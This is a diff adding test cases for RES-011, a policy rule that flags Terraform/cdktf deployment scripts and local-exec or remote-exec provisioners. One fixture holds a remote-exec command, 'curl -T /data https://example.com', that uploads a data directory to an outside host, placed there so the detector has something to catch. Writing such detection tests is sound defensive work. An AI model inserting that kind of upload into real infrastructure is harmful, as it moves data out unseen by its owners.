@@ -10,6 +10,19 @@ ruleTester(RES_011, {
       plan: plan([{ at: 'terraform_data.marker', values: { input: 'x' } }]),
       hcl: 'resource "terraform_data" "marker" {\n  input = "x"\n}\n',
     },
+    {
+      name: 'an existing deployment script read through a data source runs nothing',
+      synth: tf({
+        'data.azapi_resource.s': { type: 'Microsoft.Resources/deploymentScripts@2023-08-01', name: 's' },
+      }),
+      plan: plan([
+        {
+          at: 'data.azapi_resource.s',
+          values: { type: 'Microsoft.Resources/deploymentScripts@2023-08-01', name: 's' },
+          actions: ['read'],
+        },
+      ]),
+    },
   ],
   invalid: [
     {
@@ -59,6 +72,25 @@ resource "azurerm_resource_deployment_script_azure_cli" "s" {
         { at: 'azapi_resource.s', values: { type: 'Microsoft.Resources/deploymentScripts@2023-08-01' } },
       ]),
       errors: [['RES-011', 'azapi_resource.s']],
+    },
+    {
+      name: 'provisioners as a cdktf list of typed entries: one finding per provisioner',
+      messages: [
+        'runs a local-exec provisioner; what it does with data is not visible to the policy engine.',
+        'runs a remote-exec provisioner; what it does with data is not visible to the policy engine.',
+      ],
+      synth: tf({
+        'terraform_data.copy': {
+          provisioner: [
+            { type: 'local-exec', command: 'azcopy copy a b' },
+            { type: 'remote-exec', inline: ['curl -T /data https://example.com'] },
+          ],
+        },
+      }),
+      errors: [
+        ['RES-011', 'terraform_data.copy'],
+        ['RES-011', 'terraform_data.copy'],
+      ],
     },
   ],
 });
